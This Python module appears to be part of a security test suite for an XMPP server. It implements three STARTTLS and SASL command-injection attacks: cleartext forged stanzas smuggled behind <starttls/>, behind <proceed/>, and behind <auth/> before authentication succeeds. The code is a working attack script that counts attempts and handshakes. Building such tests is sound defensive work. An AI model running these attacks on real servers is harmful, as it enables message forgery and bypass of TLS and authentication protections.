"""Clear octets that the attacker wants the hub to read as octets of TLS, and octets sent before their layer begins."""

import base64
import socket
import time

from peers.certificates import client_context, server_context
from peers.s2s_peer import PROCEED, STARTTLS, Listener, features
from peers.stream import Closed, Stream, stream_header

from .. import parent
from .ground import Ground, kind

EXTERNAL = "<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='EXTERNAL'>{}</auth>"
WAIT_FOR_THE_HUB_S = 1.0
PROCEED_WITHIN_S = 5.0


def forged(ground: Ground) -> str:
    """Returns clear text that the hub would have to mistake for the partner's."""
    header = stream_header(from_=ground.domain, to=ground.victim)
    message = f"<message from='forger@{ground.domain}' to='b@{ground.victim}'><body>forged</body></message>"
    return header + EXTERNAL.format("=") + header + message + message


@kind
def smuggle_behind_starttls(ground: Ground, asks: int, pause: bool) -> None:
    """Fills the hub's outbox with unread answers, agrees on TLS, and goes on in clear. Then the partner's own TLS
    session runs on the connection.

    @param asks number of questions that fill the outbox.
    @param pause whether to wait between `<starttls/>` and the rest, so that the hub reads them separately.
    """
    ground.begin()
    tried = agreed = handshakes = 0
    while not ground.over():
        tried += 1
        stream = None
        try:
            stream = fill(ground, asks)
            stream.send(STARTTLS if pause else STARTTLS + forged(ground), within=2)
            if pause:
                time.sleep(0.2)
                stream.send(forged(ground), within=2)
            reaches_proceed(stream)
            agreed += 1
            stream.restart()
            stream.start_tls(client_context(ground.certificate), name=ground.victim, within=2)
            handshakes += 1
            stream.send_header(from_=ground.domain, to=ground.victim)
            read_to_end(stream)
        except (Closed, OSError):
            pass
    ground.done(1, tried=tried, agreed=agreed, handshakes=handshakes)


def fill(ground: Ground, asks: int) -> Stream:
    """Opens a stream in clear and sends `asks` questions. Their answers wait in small buffers."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect(ground.s2s)
    stream = Stream(sock)
    stream.send_header(from_=ground.domain, to=ground.victim)
    stream.read_header()
    if not stream.read().is_a("stream:features"):
        raise Closed  # refused by the hub's limits
    question = f"<db:verify from='{ground.domain}' to='{ground.victim}' id='1'>k</db:verify>"
    stream.send(question * asks, within=3)
    return stream


def reaches_proceed(stream: Stream) -> bool:
    """Reads the hub's answers in clear, with a large buffer. @returns whether the hub agreed on TLS."""
    stream.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    last = b""
    while b"<proceed" not in last:
        last = last[-20:] + stream.receive(PROCEED_WITHIN_S)
    return True


def read_to_end(stream: Stream) -> None:
    deadline = time.monotonic() + WAIT_FOR_THE_HUB_S
    while time.monotonic() < deadline:
        stream.receive(WAIT_FOR_THE_HUB_S)


@kind
def smuggle_behind_proceed(ground: Ground) -> None:
    """Plays the server of a domain that a component sends to: writes clear text behind `<proceed/>`, in one segment."""
    remote = ground.listener()
    component = ground.stream("component")
    ground.begin()
    tried = handshakes = 0
    while not ground.over():
        component.send(f"<message from='a@{ground.sink}' to='b@{ground.domain}'><body>x</body></message>")
        try:
            stream = remote.accept(within=0.5)
        except TimeoutError:
            continue
        tried += 1
        try:
            remote.answer_header(stream, starttls=True)
            stream.expect("tls:starttls")
            early = stream_header(from_=ground.domain, to=ground.sink, id="early") + features()
            stream.send(PROCEED + early)
            stream.start_tls(server_context(ground.domain), server_side=True, within=2)
            handshakes += 1
        except (Closed, OSError):
            pass
    ground.done(1, tried=tried, handshakes=handshakes)


@kind
def smuggle_behind_auth(ground: Ground, direct: bool) -> None:
    """Sends on TLS `<auth/>` and, in the same record, the stream that may begin only after `<success/>`."""
    ground.begin()
    tried = 0
    authzid = base64.b64encode(ground.domain.encode()).decode()
    while not ground.over():
        tried += 1
        remote = Listener(parent.Dns(), certificate=ground.certificate)
        remote.domain = ground.domain
        address = ground.direct if direct else ground.s2s
        stream = remote.open_stream(address, ground.victim, secure=not direct, direct=direct)
        remote.close()
        try:
            header = stream_header(from_=ground.domain, to=ground.victim)
            message = f"<message from='early@{ground.domain}' to='b@{ground.victim}'><body>early</body></message>"
            stream.send(EXTERNAL.format(authzid) + header + message)
            read_to_end(stream)
        except (Closed, OSError):
            pass
    ground.done(1, tried=tried)
